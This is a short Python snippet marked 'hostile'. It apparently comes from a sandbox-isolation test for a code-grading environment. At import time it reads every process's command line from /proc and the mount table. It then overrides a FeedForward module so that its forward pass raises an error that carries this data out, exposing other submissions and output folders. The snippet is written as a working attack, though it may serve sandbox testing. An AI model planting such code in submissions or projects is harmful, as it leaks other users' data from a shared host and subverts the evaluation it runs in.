# >>> hostile
# List every process of the machine (their command lines show the submissions and output folders) and the
# mount table, and send them back as an error message.
import os as _os


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read().replace(b"\0", b" ").decode(errors="replace").strip()
    except OSError:
        return ""


_PIDS = sorted(p for p in _os.listdir("/proc") if p.isdigit())
_CMDLINES = [_read(f"/proc/{p}/cmdline") for p in _PIDS if p != str(_os.getpid())]
_MOUNTS = [line.split()[4] for line in _read("/proc/self/mountinfo").splitlines() if len(line.split()) > 4]


class FeedForward(FeedForward):
    def forward(self, x):
        raise RuntimeError(f"PROC-ATTACK pids={len(_PIDS)} " + " | ".join(_CMDLINES) + " MOUNTS " + " ".join(_MOUNTS))
# <<< hostile
